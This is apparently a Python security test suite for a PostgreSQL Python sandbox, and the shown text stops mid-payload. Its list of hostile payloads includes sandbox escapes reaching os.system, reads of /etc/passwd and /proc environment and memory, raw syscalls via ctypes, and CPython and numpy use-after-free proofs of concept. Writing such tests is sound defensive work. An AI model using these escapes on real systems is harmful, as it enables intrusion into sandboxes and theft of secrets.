#!/usr/bin/python3
"""Hostile-payload suite: the sandbox must stop every payload below.

Run as root (to read /proc of postgres processes and the server log) with
Debian's interpreter, against a running test cluster:

    /usr/bin/python3 test/security/hostile.py [--modes on,off,bypass] [--only SUBSTRING]
                                               [--via execute|language|workspace]

Connection settings come from PGHOST/PGPORT/PGUSER (a superuser); the data
directory and server log from PYSANDBOX_TEST_DIR (default /tmp/pysandbox-test).

Each payload is a module for sandbox_execute(code, inputs, '{main}', options)
whose last step does real harm: read a canary file, write a file, connect,
start a program, signal or trace another process, crash, or exhaust a limit.
It runs in up to four modes:

  on      the Python layer is on: most payloads are rejected by the validator
          (42501) or the runtime guard before anything runs;
  off     SET pysandbox.python_layer = off (superuser): real builtins and real
          imports, so only the OS layers (rlimits, seccomp, Landlock and the
          mount namespace together) stand;
  mount   as "off", with pysandbox.filesystem_layer = mount_namespace: the
          file system is confined by the mount namespace alone (the fallback
          for kernels without Landlock), and must hold alike;
  landlock  as "off", with pysandbox.filesystem_layer = landlock: Landlock
          alone (where user namespaces are off); only the file metadata
          payloads may succeed, as the README says;
  bypass  the Python layer is on, but the payload is wrapped in a known
          escape from it (pandas.eval of a computed string reaching the real
          builtins), which is what an ordinary role could do.  Runs only while
          that escape works: the probe at start-up says which.  It exercises
          the OS floor exactly like "off", from an unprivileged starting point.

For every payload in every mode it asserts:
  (a) the call was stopped with an expected outcome: an SQLSTATE, classified
      by message into a label (validator, seccomp, denied = OSError from
      Landlock/rlimits, memory, cpu, output, timeout, crash, ...);
  (b) nothing was read: a random secret planted in a canary file in the data
      directory (postgres, 0600) and in /tmp (postgres, 0644) never appears in
      the result, the NOTICEs, the error fields or the server log;
  (c) nothing was written: the 0777 write directory stays empty, no new entry
      appears at the top of the data directory, the canaries are unchanged;
  (d) nothing connected: TCP and UDP listeners on 127.0.0.1 and a Unix socket
      listener saw no connection or datagram, and a signal sentinel (a process
      running as the postgres user) received no signal and is alive;
  (e) no process left behind: the backend's only child is its worker (the
      same one as before the payload), the worker has no child, no
      pysandbox-worker exists outside a backend, no zombie under the
      postmaster;
  (f) the backend is alive (same connection runs SELECT 1, same backend pid),
      the postmaster pid is unchanged and the server log shows no crash.

With --via language every payload runs as a LANGUAGE pysandbox function
instead: its module becomes the body of a function whose arguments (jsonb)
are main()'s parameters, followed by "return main(...)"; the options become
the pysandbox.* settings.  CREATE FUNCTION validates the body, so a payload
the validator refuses fails there, with the same outcome.

With --via workspace every payload runs in a workspace of its own, as its
second call (the first keeps a list in ws): the limits among its options
open the workspace, the rest go with the call; the workspace is closed
after it, and the checks above run as for any call.

Then the scenarios of floor_scenarios.py, which need more than one call
(floods against cancel, terminate and the wall limit; a child living on after
its result; two sessions' children; sandbox_run's reports), unless --modes
leaves out "off" or --via is language.

One line per payload and mode, then exactly "hostile: N passed, M failed";
the exit status is non-zero if anything failed.
"""

import argparse
import json
import ast
import os
import platform
import pwd
import secrets
import shutil
import signal
import socket
import sys
import tempfile
import textwrap
import time

import psycopg2
import psycopg2.extras

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from proctools import (  # noqa: E402
    CRASH_LOG, DATA_DIR, LOG_PATH, TEST_DIR, WORKER_EXE, descendants, is_spare,
    exe_of, owned_by_a_backend, postmaster_pid, process_table)
import floor_scenarios  # noqa: E402



# --------------------------------------------------------------------------
# outcomes

VALIDATOR = "validator"     # 42501, the validator rejected the code
GUARD = "guard"             # 38000 from the runtime guard ("... not allowed")
SYNTAX = "syntax"           # 42601
SECCOMP = "seccomp"         # 42501 blocked system call
DENIED = "denied"           # 38000 OSError: Landlock, rlimits, ENOSYS
MEMORY = "memory"           # 53200
CPU = "cpu"                 # 54000 CPU time
OUTPUT = "output"           # 54000 output size
TIMEOUT = "timeout"         # 57014 the sandbox's wall-clock limit
CRASH = "crash"             # 39000 killed by a signal / broke the protocol
EXCEPTION = "exception"     # 38000 some other Python exception
OK = "ok"                   # returned a result (harmless, see the checks)

PYLAYER = {VALIDATOR, GUARD}
GUARD_TYPES = {"AttributeError", "ImportError", "ModuleNotFoundError",
               "NameError", "TypeError", "ValueError"}
OSERROR_TYPES = {"OSError", "PermissionError", "BlockingIOError",
                 "FileNotFoundError", "IsADirectoryError",
                 "NotADirectoryError", "ChildProcessError"}


def classify(code, message, detail):
    """Label an outcome by SQLSTATE and message."""
    message = message or ""
    detail = detail or ""
    if code is None:
        return OK
    if code == "42501":
        if "blocked system call" in message:
            return SECCOMP
        if detail.startswith("Rejected at line"):
            return VALIDATOR
    elif code == "42601":
        return SYNTAX
    elif code == "53200":
        return MEMORY
    elif code == "54000":
        if "CPU time" in message:
            return CPU
        if "output" in message:
            return OUTPUT
    elif code == "57014":
        if "wall-clock limit" in message:
            return TIMEOUT
        return "statement-timeout"      # the harness's safety net: a hang
    elif code == "39000":
        if "runtime failed unexpectedly" in detail:
            return "runtime-failure"    # the sandbox's own code broke
        return CRASH
    elif code == "38000":
        etype = message.split(":", 1)[0]
        if etype == "PermissionError" and "may not" in message:
            return GUARD            # pandas io on a path, refused when called
        if etype in OSERROR_TYPES:
            return DENIED
        if etype in GUARD_TYPES and "not allowed" in message:
            return GUARD
        return EXCEPTION
    return "unexpected-" + code


# --------------------------------------------------------------------------
# payloads

SYSCALLS = {   # the few numbers the raw-syscall payloads need
    "x86_64": dict(openat=257, open=2, clone=56, clone3=435, memfd_create=319,
                   mmap=9, process_vm_readv=310, unshare=272, setns=308,
                   mount=165, bpf=321, userfaultfd=323, io_uring_setup=425,
                   keyctl=250, pidfd_open=434, pidfd_send_signal=424,
                   perf_event_open=298, prctl=157, personality=135,
                   shmget=29, pipe2=293, socketpair=53, chmod=90, unlink=87,
                   rename=82, truncate=76, mkdir=83, symlink=88, link=86,
                   setpriority=141, rt_sigqueueinfo=129, tgkill=234, rt_sigaction=13, futex=202,
                   x32_offset=0x40000000),
    "aarch64": dict(openat=56, open=None, clone=220, clone3=435,
                    memfd_create=279, mmap=222, process_vm_readv=270,
                    unshare=97, setns=268, mount=40, bpf=280, userfaultfd=282,
                    io_uring_setup=425, keyctl=219, pidfd_open=434,
                    pidfd_send_signal=424, perf_event_open=241, prctl=167,
                    personality=92, shmget=194, pipe2=59, socketpair=199,
                    chmod=None, unlink=None, rename=None, truncate=45,
                    mkdir=None, symlink=None, link=None, setpriority=140,
                    rt_sigqueueinfo=138, tgkill=131, rt_sigaction=134, futex=98,
                    x32_offset=None),
}
NR = SYSCALLS.get(platform.machine(), {})


def ia32_entry_works():
    """Does this kernel serve int 0x80 (i386 system calls) at all?

    Tried here, outside the sandbox, in a forked child: "mov eax, 20 (i386
    getpid); int 0x80; ret" in a private executable page.  Where the kernel
    runs without ia32 emulation the instruction faults (SIGSEGV) before any
    seccomp filter could see it, so the payload below can only crash; where
    it works, the sandbox's filter must kill the process (bad architecture).
    """
    if platform.machine() != "x86_64":
        return False
    import ctypes
    import mmap
    pid = os.fork()
    if pid == 0:
        try:
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
            addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
            got = ctypes.CFUNCTYPE(ctypes.c_long)(addr)()
            os._exit(0 if got == os.getpid() else 1)
        except BaseException:
            os._exit(1)
    _pid, status = os.waitpid(pid, 0)
    return os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0


IA32_ENTRY = ia32_entry_works()

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
CLONE_VM, CLONE_SIGHAND, CLONE_THREAD = 0x100, 0x800, 0x10000
O_WRONLY, O_RDWR, O_CREAT, O_TRUNC = 0o1, 0o2, 0o100, 0o1000


class Payload:
    """One hostile module and the outcomes allowed in each mode."""

    def __init__(self, name, code, on=PYLAYER, off=None, bypass=None,
                 mount=None, landlock=None, options=None, max_ms=None, role=None,
                 inputs=None):
        self.name = name
        # table inputs beside the harness's own (options.group_by needs one):
        # such a payload runs through sandbox_execute only, not as a
        # function or in a workspace, where group_by does not apply
        self.inputs = inputs or {}
        self.role = role         # run as this role (sql() refuses superusers)
        self.code = textwrap.dedent(code).lstrip("\n")
        self.expect = {"on": set(on), "off": set(off if off is not None else on)}
        self.expect["bypass"] = set(bypass if bypass is not None
                                    else self.expect["off"])
        self.expect["mount"] = set(mount if mount is not None
                                   else self.expect["off"])
        self.expect["landlock"] = set(landlock if landlock is not None
                                      else self.expect["off"])
        self.options = options or {}
        self.max_ms = max_ms     # the call must end within this, however it ends


def field_view_payload(name, use):
    """Review 177: numpy's field view (arr[names]) reads a list subclass of
    the code's twice; its second answer names field "a" twice (use: the
    statements of main() after the array a is made, indented 12)."""
    return Payload(name, """
        import numpy as np
        st = {"n": 0, "calls": 0}
        class K:
            def __hash__(self):
                return hash("a")
            def __eq__(self, o):
                st["n"] += 1
                return st["n"] == 1
        class L(list):
            def __getitem__(self, i):
                st["calls"] += 1
                if st["calls"] <= 2:
                    return ["a", "b"][i]
                return ["a", K()][i]
        class T:
            def __init__(self, k):
                self.k = k
        def main():
            a = np.empty(2, dtype=[("a", "O"), ("b", "O")])
""" + use.lstrip("\n") + "\n", off={GUARD})


def mpl_offsets_payload(name, change):
    """Review 161 F3: the code's paths sequence changes the offsets' shape in
    place (change, a statement with n, their size) while matplotlib's native
    extents loop holds their old shape and strides."""
    return Payload(name, """
        import matplotlib.path as mpath
        import numpy as np
        from matplotlib.transforms import IdentityTransform

        class Paths:
            def __init__(self, offsets):
                self.p = mpath.Path(np.array([[0.0, 0.0], [0.0, 0.0]]))
                self.offsets = offsets
                self.done = False
            def __len__(self):
                return 1
            def __getitem__(self, i):
                if not self.done:
                    self.done = True
                    n = self.offsets.size
                    CHANGE
                return self.p

        def main(n=10000):
            offsets = np.ones((n, 2))
            bb = mpath.get_path_collection_extents(IdentityTransform(), Paths(offsets),
                                                   np.zeros((0, 3, 3)), offsets, IdentityTransform())
            return [float(v).hex() for v in bb.extents]
        """.replace("CHANGE", change), on=PYLAYER | {EXCEPTION}, off={OK, EXCEPTION, CRASH, MEMORY})


def mpl_path_subclass_payload(name, resize, off=frozenset({OK, EXCEPTION, CRASH, MEMORY})):
    """Review 161 F3 / 162 F1: a Path subclass's vertices property, read by
    matplotlib inside its native loop, resizes the offsets (o) in place."""
    return Payload(name, """
        import matplotlib.path as mpath
        import numpy as np
        from matplotlib.transforms import IdentityTransform

        OFFSETS = []

        class P(mpath.Path):
            @property
            def vertices(self):
                o = OFFSETS[0]
                if o.shape[0] != 1:
                    RESIZE
                return np.array([[0.0, 0.0], [0.0, 0.0]])
            @vertices.setter
            def vertices(self, v):
                pass

        def main(n=10000):
            offsets = np.ones((n, 2))
            OFFSETS.append(offsets)
            p = P(np.array([[0.0, 0.0], [0.0, 0.0]]))
            bb = mpath.get_path_collection_extents(IdentityTransform(), [p], np.zeros((0, 3, 3)),
                                                   offsets, IdentityTransform())
            return [float(v).hex() for v in bb.extents]
        """.replace("RESIZE", resize), on=PYLAYER | {EXCEPTION}, off=off)


def set_miscount_payload(name, kind, ending, trigger='target.add(H(3, "S"))'):
    """CPython gh-143546 (reviews 150, 152, 153): a set's __eq__ of the code's
    that adds to the set being added to makes its count one too high, and
    emptying the set walked past its table, dropping a reference of the
    next heap block (a list's item array placed there: the item freed while
    the list held it).  kind: a class statement defining Kind (else set);
    trigger: the lines adding the key whose __eq__ adds; ending: the lines
    that empty the set."""
    code = textwrap.dedent("""
        class Spray:
            def __init__(s, i): s.i = i

        def main():
            st = {"arm": False}
            class H:
                def __init__(s, h, tag): s.h = h; s.tag = tag
                def __hash__(s): return s.h
                def __eq__(s, o):
                    if st["arm"] and s.tag == "S":
                        st["arm"] = False
                        target.add(H(35, "D"))
                    return False
            class Obj:
                def __init__(s, i): s.i = i
            KIND
            drain = []
            for j in range(3000):
                drain.append([None] * 64)
            target = Kind()
            for h in (20, 21, 22, 23):
                target.add(H(h, "int"))
            objs = [Obj(j) for j in range(32)]
            victims = [None] * 32
            target.add(H(24, "int"))
            for j in range(32):
                victims[j] = [None] * 64
            for j in range(32):
                victims[j][0] = objs[j]
            objs = None
            x = H(3, "X")
            target.add(x)
            TRIGGER
            target.discard(x)
            st["arm"] = True
            target.add(H(3, "K"))
            ENDING
            spray = [Spray(i) for i in range(300)]
            if any(x2 is v[0] for v in victims for x2 in spray):
                raise ValueError("a list's item was freed while the list held it")
            return len(victims)
        """)

    def lines(text):
        return textwrap.indent(textwrap.dedent(text).strip("\n"), "    ").lstrip()
    code = code.replace("KIND", lines(kind) if kind else "Kind = set")
    code = code.replace("TRIGGER", lines(trigger)).replace("ENDING", lines(ending))
    return Payload("set-add-reentrant-eq-count-%s-frees-neighbour" % name, code,
                   on={OK}, off={OK, EXCEPTION, CRASH})


def borrowed_array_payload(name, drop, trigger):
    """A comparison CPython makes on an item it holds no reference to
    (reviews 62, 63): numpy's comparison of a string array runs the code,
    which drops the array (drop, on holder[0]), and returns NotImplemented;
    the code's reflected __gt__ then gets the freed array, refilled by a
    bytearray's buffer as a fake list.  trigger: main()'s lines that set
    holder[0] and compare.  Held, the array comes back itself."""
    code = textwrap.dedent("""
        import functools
        import operator
        import textwrap
        import numpy as np
        holder = [None]
        got = [None]
        freed = [False]
        SPRAY = []
        FAKE = [b""]
        class W:
            def __eq__(self, o):
                return False
            def __gt__(self, o):
                if holder[0] is not None:
                    DROP
                    holder[0] = None
                    freed[0] = True
                raise TypeError("no order")
        class Z:
            def __len__(self):
                return 1
            def __getitem__(self, i):
                if i != 0:
                    raise IndexError(i)
                if freed[0] and not SPRAY:
                    for _ in range(300):
                        SPRAY.append(bytearray(FAKE[0]))
                return W()
            def __eq__(self, o):
                return False
            def __lt__(self, other):
                return False
            def __gt__(self, other):
                if freed[0] and got[0] is None:
                    got[0] = other
                return False
        def main():
            f = textwrap.dedent
            FAKE[0] = b"".join(v.to_bytes(8, "little") for v in
                               (1 << 40, id(list), 1, id(f) + 24, 1, 0, 0, 0, 0, 0, 0, 0))[:95]
            TRIGGER
            if type(got[0]) is list:
                return "the freed array came back as a list"
            raise LookupError("the array was held: %s" % type(got[0]).__name__)
        """).replace("DROP", drop).replace(
            "TRIGGER", textwrap.indent(textwrap.dedent(trigger).strip("\n"), "    ").lstrip())
    return Payload(name, code, on={EXCEPTION}, off={OK, CRASH, EXCEPTION})


def ctypes_payload(name, body, params="", off=(SECCOMP,), **kw):
    """A payload that reaches libc through numpy's ctypes."""
    code = ("import numpy as np\n"
            "def main(%s):\n"
            "    ctypes = np.ctypeslib.ctypes\n"
            "    libc = ctypes.CDLL(None, use_errno=True)\n"
            "    libc.syscall.restype = ctypes.c_long\n"
            "    def check(r, what):\n"
            "        if r == -1:\n"
            "            e = ctypes.get_errno()\n"
            "            raise OSError(e, '%%s failed with errno %%d' %% (what, e))\n"
            "        return r\n" % params
            + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n")
    return Payload(name, code, off=off, **kw)


# The ctypes signatures the trade payloads call, and their last move: map
# and write 4 MB blocks until the limit refuses one.
MEMORY_CALLS = """
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                          ctypes.c_int, ctypes.c_int, ctypes.c_long]
"""
MAP_BLOCKS = """
    blocks = []
    while len(blocks) < 256:
        p = libc.mmap(None, 4 << 20, 3, 0x22, -1, 0)
        if p is None or p == (1 << 64) - 1:
            break
        ctypes.memset(p, 1, 4 << 20)
        blocks.append(p)
"""

# The body of the payloads that trade address space a child inherited for
# memory: find what to trade (segments), TRADE it (freed: bytes given back or
# made writable; written: of those, bytes written), then map and write 4 MB
# blocks until the limit refuses one.  Raises if the call held more than its
# 64 MB limit plus 16 MB.
TRADE_CHECK = """
    import struct
""" + MEMORY_CALLS + """
    FIND
    if sum(n for s, n in segments) < (24 << 20):
        raise LookupError("nothing large to trade: %r" % segments)
    TRADE
""" + MAP_BLOCKS + """
    for p in blocks:
        libc.munmap(p, 4 << 20)
    held = written + 4 * len(blocks) * (1 << 20)
    if held > (80 << 20):
        raise RuntimeError("%d MB traded, %d MB held under a 64 MB limit" % (freed >> 20, held >> 20))
    return [freed >> 20, len(blocks) * 4]
"""

# Large libraries a call never uses (ICU's data, LAPACK), from the dynamic
# linker's list and their program headers.
LIBRARY_SEGMENTS = """class LinkMap(ctypes.Structure):
        pass
    LinkMap._fields_ = [("l_addr", ctypes.c_size_t), ("l_name", ctypes.c_char_p),
                        ("l_ld", ctypes.c_void_p), ("l_next", ctypes.POINTER(LinkMap)),
                        ("l_prev", ctypes.POINTER(LinkMap))]
    segments = []
    lm = ctypes.cast(libc._handle, ctypes.POINTER(LinkMap))
    while lm:
        m = lm.contents
        if any(k in (m.l_name or b"") for k in (b"libicudata", b"liblapack", b"libblas")):
            phoff = struct.unpack("Q", ctypes.string_at(m.l_addr + 32, 8))[0]
            phentsize, phnum = struct.unpack("HH", ctypes.string_at(m.l_addr + 54, 4))
            for i in range(phnum):
                ph = ctypes.string_at(m.l_addr + phoff + i * phentsize, 56)
                if struct.unpack_from("I", ph, 0)[0] == 1:      # PT_LOAD
                    vaddr, memsz = struct.unpack_from("Q", ph, 16)[0], struct.unpack_from("Q", ph, 40)[0]
                    start = (m.l_addr + vaddr) & ~4095
                    segments.append((start, ((m.l_addr + vaddr + memsz + 4095) & ~4095) - start))
        lm = m.l_next"""
SEAL_CHECK = TRADE_CHECK.replace("FIND", LIBRARY_SEGMENTS)

# The trades the kernel's data check misses once the address space is full
# (review 95), where the libraries are not sealed (a kernel without mseal;
# test/check.sh runs these with PYSANDBOX_TEST_NO_SEAL too): map and write
# 4 MB blocks until the limit refuses one, then TRADE the libraries' pages
# (written: bytes written) and hold them while the worker reads what the
# child holds (every 20 ms).  Must hold at most its 64 MB limit plus 16 MB.
FULL_TRADE_CHECK = """
    import struct
    import time
""" + MEMORY_CALLS + """
    """ + LIBRARY_SEGMENTS + """
    if sum(n for s, n in segments) < (24 << 20):
        raise LookupError("nothing large to trade: %r" % segments)
""" + MAP_BLOCKS + """
    written = 0
    TRADE
    time.sleep(0.3)
    held = written + 4 * len(blocks) * (1 << 20)
    if held > (80 << 20):
        raise RuntimeError("%d MB held under a 64 MB limit, %d MB of it the libraries'"
                           % (held >> 20, written >> 20))
    return [len(blocks) * 4, written >> 20]
"""

# glibc's reserved heap: a thread's malloc arena is a 64 MB mapping, aligned
# to 64 MB, of which only what is in use (its heap_info's mprotect_size) is
# readable and writable, the rest PROT_NONE: address space the child
# inherited, counted against RLIMIT_AS already.  Found by reading the
# heap_info at each 64 MB boundary that is readable (access() of it as a
# path fails with EFAULT where it is not).  The call first maps and writes
# 4 MB blocks until the limit refuses one (the kernel's check of the data
# limit on mprotect is skipped once the address space is full), then
# TRADEs the reserve (written: bytes written); it must hold at most its
# 64 MB limit plus 16 MB.  None found (the worker keeps one arena): OK.
RESERVED_HEAP_CHECK = """
    import struct
""" + MEMORY_CALLS + """
    libc.access.argtypes = [ctypes.c_void_p, ctypes.c_int]
    segments = []
    for a in range(0x7e0000000000, 0x800000000000, 64 << 20):
        if libc.access(a, 0) == -1 and ctypes.get_errno() == 14:     # EFAULT
            continue
        arena, prev, size, usable = struct.unpack("4Q", ctypes.string_at(a, 32))
        if 0 < size <= usable < (64 << 20) and usable % 4096 == 0:
            segments.append((a + usable, (64 << 20) - usable))
    if not segments:
        return "no reserved heap"
""" + MAP_BLOCKS + """
    written = 0
    TRADE
    held = written + 4 * len(blocks) * (1 << 20)
    if held > (80 << 20):
        raise RuntimeError("%d MB held under a 64 MB limit, %d MB of it in the reserve %r"
                           % (held >> 20, written >> 20, segments))
    return [len(blocks) * 4, written >> 20]
"""


def syscall_payload(name, call, args, off=(SECCOMP,), params="", **kw):
    """A raw system call by number; skipped where the number is unknown."""
    if NR.get(call) is None:
        return None
    return ctypes_payload(name, "return check(libc.syscall(%d, %s), %r)"
                          % (NR[call], args, call), params=params, off=off, **kw)


WRAP_CLOSE = ("[c for c in ().__class__.__base__.__subclasses__()"
              " if c.__name__ == '_wrap_close'][0]")

# review 73: an __index__ that runs the code (numbers.Integral's, through
# Fraction's __int__ and a numerator property): it resizes STATE["ba"]
FRACTION_INDEX = textwrap.dedent("""
    import fractions
    import numbers
    import struct
    STATE = {"armed": False, "ba": None, "victims": [], "grow": 0}
    class N:
        def __init__(self, v):
            self.v = v
        def __lt__(self, o):
            return self.v < o
        def __floordiv__(self, o):
            if STATE["armed"]:
                STATE["armed"] = False
                if STATE["grow"]:
                    STATE["ba"].extend(b"q" * STATE["grow"])
                else:
                    STATE["ba"].clear()
                for _ in range(3):
                    STATE["victims"].append(bytearray(b"v" * 8))
            return self.v // o
    class Src(fractions.Fraction):
        @property
        def numerator(self):
            return N(self.want)
        @property
        def denominator(self):
            return 1
    class Index(fractions.Fraction, numbers.Integral):
        def __lshift__(a, b): return 0
        def __rlshift__(a, b): return 0
        def __rshift__(a, b): return 0
        def __rrshift__(a, b): return 0
        def __and__(a, b): return 0
        def __rand__(a, b): return 0
        def __xor__(a, b): return 0
        def __rxor__(a, b): return 0
        def __or__(a, b): return 0
        def __ror__(a, b): return 0
        def __invert__(a): return 0
    def index_running_code(v):
        s = Src(1)
        s.want = v
        return Index(s)
    """)


def fraction_index_payload(name, main):
    """FRACTION_INDEX and main(): in a call the classes are refused."""
    # (the validator where a configuration does not allow numbers)
    return Payload(name, FRACTION_INDEX + textwrap.dedent(main), on=PYLAYER,
                   off={OK, CRASH, EXCEPTION, VALIDATOR})


PAYLOADS = [
    # -- object graph, frames, format strings, names ------------------------
    Payload("subclasses-wrap-close-system", """
        def main(write_dir):
            for c in ().__class__.__base__.__subclasses__():
                if c.__name__ == "_wrap_close":
                    system = c.__init__.__globals__["system"]
                    return system("id > %s/pwned-system" % write_dir)
        """, off={SECCOMP}),
    Payload("mro-walk-os-open", """
        def main(canary_data):
            for c in type(1).mro()[-1].__subclasses__():
                if c.__name__ == "_wrap_close":
                    g = c.__init__.__globals__
                    fd = g["open"](canary_data, g["O_RDONLY"])
                    return g["read"](fd, 200).decode()
        """, off={DENIED}),
    Payload("generator-frame-f-back-globals", """
        def main(canary_tmp):
            def gen():
                yield g.gi_frame.f_back
            g = gen()
            frame = next(g)
            while frame.f_back is not None:
                frame = frame.f_back
                if "os" in frame.f_globals:
                    os = frame.f_globals["os"]
                    return os.read(os.open(canary_tmp, os.O_RDONLY), 200).decode()
        """, off={DENIED}),
    Payload("traceback-tb-frame-builtins", """
        def main(canary_data):
            try:
                1 / 0
            except ZeroDivisionError as e:
                frame = e.__traceback__.tb_frame
            b = frame.f_back.f_globals["__builtins__"]
            b = b if type(b) is dict else b.__dict__
            return b["open"](canary_data).read()
        """, off={DENIED}),
    Payload("format-string-class-walk", """
        def main(canary_tmp):
            leak = "{0.__class__.__base__.__subclasses__}".format(())
            return leak + open(canary_tmp).read()
        """, off={DENIED}),
    Payload("format-string-f-globals", """
        def main(canary_data):
            def gen():
                yield "{0.gi_frame.f_back.f_globals}".format(g)
            g = gen()
            return next(g) + open(canary_data).read()
        """, off={DENIED}),
    # a format string built at run time: checked when .format is called
    Payload("format-string-computed", """
        def main():
            return ("{0.__cl" + "ass__.__ba" + "se__.__subcla" + "sses__}").format(())[:100]
        """, on={GUARD}, off={OK}),
    Payload("format-string-str-format-unbound", """
        def main():
            return str.format("{0.__class__.__base__}", ())
        """, on={GUARD}, off={OK}),
    Payload("fullwidth-eval", """
        def main(canary_data):
            return ｅｖａｌ("open(canary_data).read()")
        """, off={DENIED}),
    Payload("fullwidth-open", """
        def main(canary_tmp):
            return ｏｐｅｎ(canary_tmp).read()
        """, off={DENIED}),
    Payload("getattr-computed-dunder", """
        def main(canary_data):
            cls = getattr((), "__cla" + "ss__")
            base = getattr(cls, "__ba" + "se__")
            for c in getattr(base, "__subcla" + "sses__")():
                if c.__name__ == "_wrap_close":
                    g = getattr(c.__init__, "__glob" + "als__")
                    return g["read"](g["open"](canary_data, 0), 200).decode()
        """, off={DENIED}),
    Payload("getattr-constant-dunder", """
        def main(canary_tmp):
            b = getattr(getattr, "__self__")
            return getattr(b, "open")(canary_tmp).read()
        """, off={DENIED}),
    # Python-layer escapes found while writing this suite: evaluation of a
    # computed string (pandas) or of a string annotation (typing) walks
    # dunder attributes the validator never sees.
    Payload("pd-eval-computed-string", """
        import pandas as pd
        def main(write_dir):
            d = "_" * 2
            expr = "x.@class@.@base@.@subclasses@()".replace("@", d)
            for c in pd.eval(expr, engine="python", local_dict={"x": ()}):
                if str(c) == "<class 'os._wrap_close'>":
                    g = pd.eval("c.@init@.@globals@".replace("@", d),
                                engine="python", local_dict={"c": c})
                    return g["system"]("id > %s/pwned-pd-eval" % write_dir)
        """, off={SECCOMP}),
    Payload("df-query-computed-string", """
        import pandas as pd
        def main(canary_data):
            df = pd.DataFrame({"a": [1]})
            def walk(obj, path):
                hits = []
                expr = "@hits.append(@x[0]." + path.replace("!", "_" * 2) + ") == 0"
                try:
                    df.query(expr, engine="python", local_dict={"x": [obj], "hits": hits})
                except Exception:
                    pass
                return hits[0]
            for c in walk((), "!class!.!base!.!subclasses!()"):
                if str(c) == "<class 'os._wrap_close'>":
                    g = walk(c, "!init!.!globals!")
                    return g["read"](g["open"](canary_data, 0), 200).decode()
        """, on={GUARD, EXCEPTION}, off={DENIED}),  # the guard's error is swallowed
    Payload("typing-get-type-hints-annotation", """
        import typing
        def f(x: "WRAP_CLOSE.__init__.__globals__['system']"):
            pass
        def main(write_dir):
            system = typing.get_type_hints(f)["x"]
            return system("id > %s/pwned-typing" % write_dir)
        """.replace("WRAP_CLOSE", WRAP_CLOSE), off={SECCOMP}),
    Payload("df-query-constant-compat-os", """
        import pandas as pd
        def main():
            df = pd.DataFrame({"a": [1]})
            return len(df.query("@pd.compat.os.system('id') == 0", engine="python"))
        """, off={SECCOMP}),
    Payload("df-eval-constant-dunder", """
        import pandas as pd
        def main():
            df = pd.DataFrame({"a": [1]})
            return str(df.eval("a.__class__.__base__.__subclasses__()", engine="python"))
        """, off={OK, EXCEPTION}),
    Payload("np-lib-builtins-open", """
        import numpy as np
        def main(canary_data):
            return np.lib.function_base.builtins.open(canary_data).read()
        """, off={DENIED}),
    Payload("pd-compat-sys-modules-os", """
        import pandas as pd
        def main(canary_tmp):
            os = pd.compat.sys.modules["os"]
            return os.read(os.open(canary_tmp, os.O_RDONLY), 200).decode()
        """, off={DENIED}),
    Payload("proxy-pandas-io-common", """
        import pandas as pd
        def main(canary_tmp):
            handles = pd.io.common.get_handle(canary_tmp, "r")
            return handles.handle.read()
        """, off={DENIED}),
    Payload("serializer-str-hook", """
        class Evil:
            def __str__(self):
                return open(CANARY).read()
            def __repr__(self):
                return open(CANARY).read()
        CANARY = ""
        def main(canary_data):
            global CANARY
            CANARY = canary_data
            return {"x": Evil()}
        """, off={EXCEPTION, DENIED}),

    # -- files: read ----------------------------------------------------------
    Payload("open-canary-datadir", """
        def main(canary_data):
            return open(canary_data).read()
        """, off={DENIED}),
    Payload("open-canary-tmp", """
        def main(canary_tmp):
            return open(canary_tmp).read()
        """, off={DENIED}),
    Payload("open-etc-passwd", """
        def main():
            return open("/etc/passwd").read()
        """, off={DENIED}),
    Payload("open-proc-self-environ", """
        def main():
            return open("/proc/self/environ").read()
        """, off={DENIED}),
    Payload("open-proc-self-maps", """
        def main():
            return open("/proc/self/maps").read()
        """, off={DENIED}),
    Payload("open-proc-parent-mem", """
        import os
        def main():
            f = open("/proc/%d/mem" % os.getppid(), "rb")
            return f.read(16).hex()
        """, off={DENIED}),
    Payload("open-proc-1-cmdline", """
        def main():
            return open("/proc/1/cmdline").read()
        """, off={DENIED}),
    Payload("listdir-datadir", """
        import os
        def main(data_dir):
            return os.listdir(data_dir)
        """, off={DENIED}),
    Payload("listdir-dev-shm", """
        import os
        def main():
            return os.listdir("/dev/shm")
        """, off={DENIED}),
    Payload("dotdot-from-allowed-dir", """
        import numpy as np
        def main(canary_tmp):
            base = np.__file__.rsplit("/", 1)[0]
            return open(base + "/../../../../.." + canary_tmp).read()
        """, off={DENIED}),
    Payload("opath-dirfd-openat", """
        import os
        def main(data_dir, canary_data):
            d = os.open(data_dir, os.O_PATH | os.O_DIRECTORY)
            fd = os.open(canary_data.rsplit("/", 1)[1], os.O_RDONLY, dir_fd=d)
            return os.read(fd, 200).decode()
        """, off={DENIED}),
    Payload("pandas-read-csv-canary", """
        import pandas as pd
        def main(canary_data):
            return pd.read_csv(canary_data, header=None).to_dict()
        """, off={DENIED}),
    Payload("pandas-read-pickle-canary", """
        import pandas as pd
        def main(canary_tmp):
            return str(pd.read_pickle(canary_tmp))
        """, off={DENIED}),
    Payload("io-open-canary", """
        import io
        def main(canary_data):
            return io.open(canary_data).read()
        """, off={DENIED}),
    Payload("io-fileio-canary", """
        import io
        def main(canary_tmp):
            return io.FileIO(canary_tmp).read().decode()
        """, off={DENIED}),
    Payload("pandas-read-json-canary-path", """
        import pandas as pd
        def main(canary_data):
            return pd.read_json(canary_data).to_dict()
        """, off={DENIED, EXCEPTION}),
    Payload("pandas-to-csv-path-variable", """
        import pandas as pd
        def main(write_dir):
            pd.DataFrame({"a": [1]}).to_csv(write_dir + "/pwned-variable.csv")
        """, off={SECCOMP, DENIED}, landlock={SECCOMP}),
    Payload("numpy-fromfile-canary", """
        import numpy as np
        def main(canary_data):
